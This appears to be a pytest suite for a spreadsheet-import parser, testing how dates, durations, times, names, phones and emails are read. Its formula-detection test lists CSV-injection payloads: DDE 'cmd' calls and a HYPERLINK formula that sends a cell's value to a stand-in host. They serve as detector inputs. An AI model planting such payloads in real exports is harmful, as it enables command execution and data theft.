"""Days, lengths, names, formulas: what can be read, and what is left as it is."""

import datetime as dt

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ownway.engines.importing import (
    NOTHING,
    Unreadable,
    Words,
    fold,
    looks_like_formula,
    read_day,
    read_minutes,
    read_time,
    tidy_name,
)
from ownway.engines.importing.cells import folded_name, folded_ref, phones, read_email, whole_name


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("18/07/2013", (2013, 7, 18)),
        ("2013-07-18", (2013, 7, 18)),
        ("2013/7/18", (2013, 7, 18)),
        ("18-7-13", (2013, 7, 18)),
        ("22.5.13", (2013, 5, 22)),
        ("22. 5. 2013", (2013, 5, 22)),
        ("22 5 13", (2013, 5, 22)),
        ("03/04/2014", (2014, 4, 3)),
        ("21 Jul 2013", (2013, 7, 21)),
        ("21 July, 2013", (2013, 7, 21)),
        ("21st July 2013", (2013, 7, 21)),
        ("2nd of Sept 2013", (2013, 9, 2)),
        ("July 21, 2013", (2013, 7, 21)),
        ("Jul-21-13", (2013, 7, 21)),
        ("21-Jul-13", (2013, 7, 21)),
        ("21Jul13", (2013, 7, 21)),
        ("2013 Jul 21", (2013, 7, 21)),
        ("Sun 21 Jul 2013", (2013, 7, 21)),
        ("Sunday, 21 July 2013", (2013, 7, 21)),
        ("21/07/2013 10:30", (2013, 7, 21)),
        ("2013-07-21T10:30:00", (2013, 7, 21)),
        ("2013-07-21 10:30:00", (2013, 7, 21)),
        ("21/07/2013 at 2.30pm", (2013, 7, 21)),
        ("41457", (2013, 7, 2)),
        ("41457.5", (2013, 7, 2)),
        ("1/1/29", (2029, 1, 1)),
        ("1/1/30", (1930, 1, 1)),
        ("29/02/2012", (2012, 2, 29)),
        (" 18/07/2013 ", (2013, 7, 18)),
    ],
)
def test_days(text: str, day: tuple[int, int, int]) -> None:
    assert read_day(text) == dt.date(*day)


@pytest.mark.parametrize("text", ["", " ", "-", "n/k", "N/A", "??", "tbc"])
def test_no_day(text: str) -> None:
    assert read_day(text) is None


@pytest.mark.parametrize(
    "text",
    ["31/02/2014", "sometime in May", "29/02/2013", "May 2013", "13/13/2013", "2013", "7", "1234567",
     "00/00/0000", "18/07", "18/07/213", "18/07/20134", "18 Juli 2013 or so", "99999", "0", "1/1/1",
     "yesterday", "18//2013", "32 May 2013", "07700900091", "1899-01-01", "tomorrow 18/07/2013"],
)  # fmt: skip
def test_unreadable_days(text: str) -> None:
    with pytest.raises(Unreadable):
        read_day(text)


def test_month_first_and_year_first() -> None:
    assert read_day("03/04/2014", order="mdy") == dt.date(2014, 3, 4)
    assert read_day("13/03/04", order="ymd") == dt.date(2013, 3, 4)
    assert read_day("2014-03-04", order="mdy") == dt.date(2014, 3, 4)
    assert read_day("4 Mar 2014", order="mdy") == dt.date(2014, 3, 4)
    with pytest.raises(Unreadable):
        read_day("13/03/2014", order="mdy")


@given(st.dates(dt.date(1930, 1, 1), dt.date(2079, 12, 31)))
def test_every_day_in_every_dress(day: dt.date) -> None:
    serial = str((day - dt.date(1899, 12, 30)).days)
    for text in (
        day.isoformat(), f"{day:%d/%m/%Y}", f"{day.day}.{day.month}.{day.year}", serial,
        f"{day:%d %b %Y}", f"{day:%d %B %Y}", f"{day:%A %d %B %Y}", f"{day:%B %d, %Y}",
    ):  # fmt: skip
        assert read_day(text) == day


@pytest.mark.parametrize(
    ("text", "minutes", "how"),
    [
        ("1hr", 60, None),
        ("90 mins", 90, None),
        ("15 min phone call", 15, "phone"),
        ("60", 60, None),
        ("45m", 45, None),
        ("1h30", 90, None),
        ("1 hr 15 mins", 75, None),
        ("1.5 hours", 90, None),
        ("1½ hours", 90, None),
        ("half an hour", 30, None),
        ("½ hr", 30, None),
        ("an hour and a half", 90, None),
        ("1 and a half hours", 90, None),
        ("two hours", 120, None),
        ("1:30", 90, None),
        ("0:45:00", 45, None),
        ("30 minute walk", 30, "walk"),
        ("phone", None, "phone"),
        ("phone call, 20 mins", 20, "phone"),
        ("coffee, 1 hour", 60, "cafe"),
        ("approx 40 mins", 40, None),
        ("~40", 40, None),
        ("", None, None),
        ("-", None, None),
    ],
)
def test_minutes(text: str, minutes: int | None, how: str | None) -> None:
    assert read_minutes(text) == (minutes, how)


@pytest.mark.parametrize("text", ["long", "a while", "morning", "x", "10-11ish"])
def test_unreadable_minutes(text: str) -> None:
    with pytest.raises(Unreadable):
        read_minutes(text)


def test_a_column_of_hours() -> None:
    assert read_minutes("1.5", hours=True) == (90, None)
    assert read_minutes("2", hours=True) == (120, None)
    assert read_minutes("45 mins", hours=True) == (45, None)
    assert read_minutes("1.5") == (90, None)


@pytest.mark.parametrize(
    ("text", "at"),
    [("14:30", (14, 30)), ("2.30pm", (14, 30)), ("9am", (9, 0)), ("12 pm", (12, 0)), ("noon", (12, 0)),
     ("12.15 am", (0, 15)), ("09:05:00", (9, 5)), ("1430", (14, 30)), ("10:00 - 11:00", (10, 0)),
     ("10-11am", (10, 0)), ("1.30-2.30pm", (13, 30)), ("0.4375", (10, 30))],
)  # fmt: skip
def test_times(text: str, at: tuple[int, int]) -> None:
    assert read_time(text) == dt.time(*at)


@pytest.mark.parametrize("text", ["25:00", "10:75", "soon", "13pm", "7"])
def test_unreadable_times(text: str) -> None:
    with pytest.raises(Unreadable):
        read_time(text)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (" Bernice", "Bernice"),
        ("PALOMA", "Paloma"),
        ("o'brien", "O'Brien"),
        ("O’BRIEN", "O’Brien"),
        ("ANNE-MARIE", "Anne-Marie"),
        ("SIOBHÁN", "Siobhán"),
        ("MCDONALD", "McDonald"),
        ("de Souza", "de Souza"),
        ("Mahmood, Hannah", "Hannah Mahmood"),
        ("two   spaces\tand\nlines", "Two Spaces And Lines"),
        ("K", "K"),
        ("", ""),
    ],
)
def test_names(text: str, name: str) -> None:
    assert tidy_name(text) == name


def test_whole_names() -> None:
    assert whole_name("", " SAM", "hill ") == "Sam Hill"
    assert whole_name("Hill, Sam", "", "") == "Sam Hill"
    assert whole_name("ignored", "Sam", "") == "Sam"
    for nobody in ("", "???", "-", "n/k", "Unknown", "123"):
        assert whole_name(nobody, "", "") == ""


def test_same_however_typed() -> None:
    assert folded_name("SIOBHÁN O'BRIEN") == folded_name("siobhan  obrien")
    assert folded_name("Łukasz Straße") == folded_name("LUKASZ STRASSE")
    assert fold("  vol. reception ") == "vol reception"
    assert folded_ref(" r 0016") == "r0016"
    assert folded_ref("007") == folded_ref("7")
    assert folded_ref("1/23") != folded_ref("12/3")
    assert not any(map(folded_ref, ["", "-", "n/a", "???", "None"]))


def test_numbers_and_addresses_in_a_cell() -> None:
    assert phones("07700 900099 (mum) / +44 7700-900100") == ("07700 900099", "+44 7700-900100")
    assert phones("ext 12") == ()
    assert read_email("Sam <Sam.Hill@Example.org>; other") == "sam.hill@example.org"
    assert read_email("sam at example") == ""


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1",
     "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", " =A1", "=cmd|'/c x'!A"],
)  # fmt: skip
def test_formulas(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize(
    "text", ["+44 7700 900091", "-", "-5", "@ college", "- spoke (by phone)", "", "a = b", "+"]
)
def test_no_formulas(text: str) -> None:
    assert not looks_like_formula(text)


@given(st.text(max_size=30))
def test_no_cell_makes_anything_fall_over(text: str) -> None:
    fold(text), tidy_name(text), phones(text), read_email(text), looks_like_formula(text)
    for read in (read_day, read_minutes, read_time):
        try:
            read(text)
        except Unreadable:
            continue


@pytest.mark.parametrize(
    "letters", ["a", "9", ",", " ", "(", "1.", "1 ", "@", "a@", "+1-", "job ", "1h"]
)
def test_a_cell_without_end_takes_no_time_without_end(letters: str) -> None:
    """Not timed: what is looked at in a cell has an end, so this returns at all."""
    text = letters * (50_000 // len(letters))
    fold(text), phones(text), read_email(text), looks_like_formula(text)
    assert len(whole_name(text, "", "")) <= 80
    assert Words.outcomes().meaning(text).code in {None, NOTHING}
    for read in (read_day, read_minutes, read_time):
        try:
            assert read(text) in {None, (None, None)}
        except Unreadable:
            continue
